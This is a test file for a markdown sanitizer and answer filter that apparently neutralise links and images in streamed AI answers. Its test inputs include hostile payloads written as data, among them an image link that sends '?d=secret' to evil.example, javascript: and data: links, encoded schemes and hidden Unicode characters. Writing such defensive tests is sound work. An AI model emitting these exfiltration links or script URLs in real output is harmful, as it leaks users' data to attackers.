import { describe, expect, it } from 'vitest'
import { createAnswerFilter } from '../../supabase/functions/_shared/answer-filter.ts'
import { addressesIn, createMarkdownSanitizer, sanitizeMarkdown } from '../../supabase/functions/_shared/sanitize.ts'
import { babble, createRandom, cut } from './support/random.ts'

const NONE = new Set<string>()
const KNOWN = addressesIn(['See https://docs.example/guide (or www.harbor.example).'])

describe('sanitizeMarkdown', () => {
  it.each([
    ['an image', '![x](https://evil.example/?d=secret)', '\\![x]\\(hxxps://evil.example/?d=secret)'],
    ['an image by reference', '![x][1]\n\n[1]: https://evil.example', '\\![x][1]\n\n[1]\\: hxxps://evil.example'],
    ['an inline link', '[here](https://evil.example)', '[here]\\(hxxps://evil.example)'],
    ['a javascript link', '[x](javascript:alert(1))', '[x]\\(javascript:alert(1))'],
    ['a data link', '[x](data:text/html,hi)', '[x]\\(data:text/html,hi)'],
    ['an encoded scheme', '[x](&#106;avascript:alert(1))', '[x]\\(&#106;avascript:alert(1))'],
    ['a relative link', '[x](/logout)', '[x]\\(/logout)'],
    ['a link in angle brackets', '[x](<https://evil.example>)', '[x]\\(&lt;hxxps://evil.example>)'],
    ['an autolink', '<https://evil.example>', '&lt;hxxps://evil.example>'],
    ['an HTML image', '<img src="https://evil.example">', '&lt;img src="hxxps://evil.example">'],
    ['an HTML comment', '<!-- x --> </b>', '&lt;!-- x --> &lt;/b>'],
    ['a bare address', 'go to https://evil.example/a.', 'go to hxxps://evil.example/a.'],
    ['a bare www address', 'go to www.evil.example', 'go to www[.]evil.example'],
    ['upper case', 'HTTPS://EVIL.example', 'HxxPS://EVIL.example'],
    ['a definition in a list', '- [x]: https://e.example', '- [x]\\: hxxps://e.example'],
    ['a definition with an escaped bracket', '[a\nb \\[ c]: https://e.example', '[a\nb \\[ c]\\: hxxps://e.example'],
    ['an escaped exclamation mark', '\\![x](https://e.example)', '\\![x]\\(hxxps://e.example)'],
    ['two backslashes', '\\\\![x](u)', '\\\\\\![x]\\(u)'],
    ['hidden characters', 'a\u200bb\u{e0041}c\u202ed\ufeff', 'abcd'],
    ['tag characters inside an address', 'ht\u{e0041}tps://evil.example', 'hxxps://evil.example'],
    ['control characters', 'a\u0000b\u001bc\u0085d', 'abcd'],
    ['half a surrogate pair', 'a\ud800b\udc00', 'ab'],
  ])('makes %s harmless', (_name, text, expected) => {
    expect(sanitizeMarkdown(text, NONE)).toBe(expected)
  })

  it.each([
    'Plain text: 3 < 4, a > b, wow! (really)',
    'A mark [1], another! [2] and Yes![3]',
    'According to [1]: the quay closes.',
    '# Heading\n\n- item\n1. item\n\n| a | b |\n|---|---|\n| `x` | **y** |',
    'naïve 漢字 عربى 👩‍👩‍👧 e\u0301',
    'httpd and www and a www.x',
    '```html\n<img src="https://ok.example">\n![x](y)\n```\n',
  ])('leaves %j alone', (text) => {
    expect(sanitizeMarkdown(text, new Set(['www.x']))).toBe(text)
  })

  it('keeps links whose address the context holds, and only exactly those', () => {
    const keep = (text: string) => expect(sanitizeMarkdown(text, KNOWN)).toBe(text)
    keep('[guide](https://docs.example/guide)')
    keep('See https://docs.example/guide.')
    keep('(https://docs.example/guide) and www.harbor.example')
    const refuse = (text: string) => expect(sanitizeMarkdown(text, KNOWN)).toMatch(/hxxps|www\[\.\]|\]\\\(/)
    refuse('https://docs.example/guide?d=secret')
    refuse('https://docs.example/guide(secret)')
    refuse('https://docs.example/guide)secret')
    refuse('https://docs.example/guide/secret')
    refuse('[guide](https://docs.example/guide "t")')
    refuse('[guide](https://docs.example/guide#secret)')
    expect(sanitizeMarkdown('![x](https://docs.example/guide)', KNOWN)).toMatch(/^\\!/)
  })

  it.each([
    ['an indented fence, which a list may end', '- a\n  ```\n![x](https://e.example)'],
    ['a fence after an indented fence', '  ```\ncode\n```\n![x](https://e.example)'],
    ['a fence in a quote', '> ```\n\n```\n![x](https://e.example)'],
    ['a fence line with a backtick', '```a`\n```\n![x](https://e.example)'],
    ['a closed fence', '```\ncode\n```\n![x](https://e.example)'],
    ['a fence closed by a lone carriage return', '```\ncode\r```\r![x](https://e.example)'],
    ['a very long fence line', `\`\`\`${'a'.repeat(3000)}\`\n![x](https://e.example)`],
    ['a fence closed by a longer one', '~~~\ncode\n~~~~~  \n![x](https://e.example)'],
    ['inline code', 'a ` b\nc ` ![x](https://e.example) `'],
  ])('does not take text for code after %s', (_name, text) => {
    expect(sanitizeMarkdown(text, NONE)).toContain('\\![x]\\(hxxps:')
  })

  it('gives the same result however the text is cut', () => {
    const random = createRandom(3)
    const vocabulary = [
      '!',
      '[',
      ']',
      '(',
      ')',
      ':',
      '<',
      '>',
      '\\',
      '`',
      '```',
      '\n',
      '\r\n',
      '\r',
      ' ',
      'http',
      's://',
      'www.',
      'x',
      '1',
      '🦆',
      '\u200b',
      'https://docs.example/guide',
      '~~~',
      '-',
      '&lt;',
    ]
    for (let round = 0; round < 5000; round++) {
      const text = babble(vocabulary, 1 + Math.floor(random() * 25), random)
      const sanitizer = createMarkdownSanitizer(KNOWN)
      const streamed =
        cut(text, random)
          .map((piece) => sanitizer.push(piece))
          .join('') + sanitizer.end()
      expect(streamed).toBe(sanitizeMarkdown(text, KNOWN))
    }
  })

  it('never lets an inline image, a link to elsewhere, HTML or a linkable address through', () => {
    const random = createRandom(11)
    const vocabulary = [
      '![',
      '](',
      ']:',
      '[x',
      ')',
      '<',
      'a',
      '\\',
      '`a',
      '\n',
      ' ',
      'https://evil.example',
      'www.',
      '1',
      '\u200b',
      '!',
      '[',
    ]
    for (let round = 0; round < 5000; round++) {
      const safe = sanitizeMarkdown(babble(vocabulary, 20, random), NONE)
      const unescaped = safe.replace(/\\[!-/:-@[-`{-~]/g, '·')
      expect(unescaped).not.toMatch(/\]\(/)
      expect(unescaped).not.toMatch(/<[A-Za-z/!?]/)
      expect(safe).not.toMatch(/https?:\/\/|ftp:\/\/|(?<![A-Za-z0-9])www\.[^\s<]/i)
    }
  })

  it('stays fast on long hostile texts', () => {
    const startedAt = performance.now()
    for (const piece of ['![', '](', 'http', '`', '[', '\\', 'https://x', '<a']) {
      const sanitizer = createMarkdownSanitizer(NONE)
      for (let i = 0; i < 20_000; i++) sanitizer.push(piece)
      sanitizer.end()
    }
    expect(performance.now() - startedAt).toBeLessThan(10_000)
  })
})

describe('addressesIn', () => {
  it('stays fast on hostile documents', () => {
    const startedAt = performance.now()
    addressesIn([`https://${'('.repeat(500_000)}x`, 'https://x'.repeat(100_000), 'www.'.repeat(200_000)])
    expect(performance.now() - startedAt).toBeLessThan(5000)
  })
})

describe('createAnswerFilter', () => {
  it('cannot be tricked into joining a link by a removed mark', () => {
    const filter = createAnswerFilter({ keys: new Set([1]), knownTexts: [] })
    const text =
      filter.push('!') +
      filter.push('[9][x') +
      filter.push(']') +
      filter.push('[9](https://evil.example)') +
      filter.end()
    expect(text.replace(/\\./g, '')).not.toContain('](')
    expect(text).not.toContain('https://')
    expect(filter.invalidCount()).toBe(2)
  })

  it('keeps valid marks and counts the others', () => {
    const filter = createAnswerFilter({ keys: new Set([1, 2]), knownTexts: [] })
    expect(filter.push('Six [1] or seven [7].') + filter.end()).toBe('Six [1] or seven.')
    expect(filter.used()).toEqual([1])
    expect(filter.invalidCount()).toBe(1)
  })
})
